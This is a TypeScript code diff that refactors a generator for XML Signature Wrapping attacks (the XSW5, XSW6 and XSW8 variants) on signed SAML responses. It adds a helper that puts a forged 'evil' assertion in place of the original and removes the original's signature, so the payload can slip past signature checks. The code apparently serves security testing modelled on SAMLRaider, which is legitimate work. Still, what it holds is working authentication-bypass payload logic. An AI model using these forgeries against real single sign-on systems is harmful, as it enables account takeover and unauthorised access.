@@ -25,6 +25,19 @@ function evilAssertion(doc: Document, keepSignature = false, keepId = false): El
   return evil;
 }
 
+/**
+ * The evil assertion (keeping the original's signature and ID) in the original's place; the
+ * original taken out, its own signature removed, for the caller to hide somewhere.
+ */
+function evilInPlace(xml: string) {
+  const doc = dom(xml);
+  const assertion = first(doc, SAML, 'Assertion');
+  const evil = evilAssertion(doc, true, true);
+  doc.documentElement.replaceChild(evil, assertion);
+  assertion.removeChild(first(assertion, DS, 'Signature'));
+  return { doc, evil, assertion };
+}
+
 /** XML signature wrapping, XSW1–8 as SAMLRaider generates them, from one valid signed response. */
 export const XSW: Record<string, (xml: string) => string> = {
   XSW1(xml) {
@@ -70,22 +83,12 @@ export const XSW: Record<string, (xml: string) => string> = {
     return text(doc);
   },
   XSW5(xml) {
-    const doc = dom(xml);
-    const assertion = first(doc, SAML, 'Assertion');
-    const evil = evilAssertion(doc, true, true);
-    doc.documentElement.replaceChild(evil, assertion);
-    const sig = first(assertion, DS, 'Signature');
-    assertion.removeChild(sig);
+    const { doc, assertion } = evilInPlace(xml);
     doc.documentElement.appendChild(assertion);
     return text(doc);
   },
   XSW6(xml) {
-    const doc = dom(xml);
-    const assertion = first(doc, SAML, 'Assertion');
-    const evil = evilAssertion(doc, true, true);
-    doc.documentElement.replaceChild(evil, assertion);
-    const originalSig = first(assertion, DS, 'Signature');
-    assertion.removeChild(originalSig);
+    const { doc, evil, assertion } = evilInPlace(xml);
     first(evil, DS, 'Signature').appendChild(assertion);
     return text(doc);
   },
@@ -99,13 +102,8 @@ export const XSW: Record<string, (xml: string) => string> = {
     return text(doc);
   },
   XSW8(xml) {
-    const doc = dom(xml);
-    const assertion = first(doc, SAML, 'Assertion');
-    const evil = evilAssertion(doc, true, true);
-    doc.documentElement.replaceChild(evil, assertion);
+    const { doc, evil, assertion } = evilInPlace(xml);
     const object = doc.createElementNS(DS, 'ds:Object');
-    const originalSig = first(assertion, DS, 'Signature');
-    assertion.removeChild(originalSig);
     object.appendChild(assertion);
     first(evil, DS, 'Signature').appendChild(object);
     return text(doc);
